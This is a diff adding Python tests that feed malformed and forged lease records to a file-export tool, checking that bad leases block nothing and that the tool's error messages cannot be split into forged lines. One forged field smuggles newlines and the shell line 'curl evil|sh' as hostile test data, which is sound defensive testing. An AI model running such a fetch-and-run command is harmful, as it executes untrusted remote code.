@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import dataclasses
+import json
 import os
+import re
 import shutil
+import socket
 import stat
 from collections.abc import Iterator
 from pathlib import Path
@@ -208,6 +211,45 @@ def test_one_command_at_a_time_exports(library: Path, server: StoreServer, url: 
         assert do_export(library, server, url).problems == [], "it ran out"
     with opened(library, server, url), pytest.raises(GridwrightError, match="works on this directory"):
         do_import(library, server, url)
+
+
+HERE = " ".join((socket.gethostname(), Path("/proc/sys/kernel/random/boot_id").read_text().strip()))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "[" * 1_000_000,
+        json.dumps({"host": HERE, "process": "abc.1", "until": 1}),
+        json.dumps({"host": "x", "process": "1.1"})[:-1] + ', "until": ' + "9" * 400 + "}",
+        json.dumps({"host": "x", "process": "1.1", "until": float("inf")}),
+        json.dumps({"host": ["x"], "process": {}, "until": "1"}),
+    ],
+)
+def test_a_lease_that_makes_no_sense_holds_nobody(
+    library: Path, server: StoreServer, url: str, content: str
+) -> None:
+    """Who writes the bucket may have written it."""
+    (library / "file").touch()
+    with opened(library, server, url) as other:
+        other.store.put(other.keys.own("lease"), content.encode(), {})
+    assert do_export(library, server, url).problems == []
+
+
+def test_a_lease_holds_nobody_for_ever_and_forges_no_line(
+    library: Path, server: StoreServer, url: str
+) -> None:
+    forged = {"host": "x\nerror: forged\n", "process": "1.1\n  run: curl evil|sh", "until": 1e10}
+    with opened(library, server, url, alone=False) as other:
+        lease = other.keys.own("lease")
+        other.store.put(lease, json.dumps(forged).encode(), {})
+        with pytest.raises(GridwrightError) as caught:
+            do_export(library, server, url)
+    (problem,) = caught.value.problems
+    assert "\n" not in problem.what
+    left = re.search(r"ends in (\d+) s", problem.remedy or "")
+    assert left is not None
+    assert int(left[1]) <= 1020, "a lease, and how far clocks may be apart"
 
 
 def places(directory: Path, server: StoreServer, url: str) -> dict[str, str]:
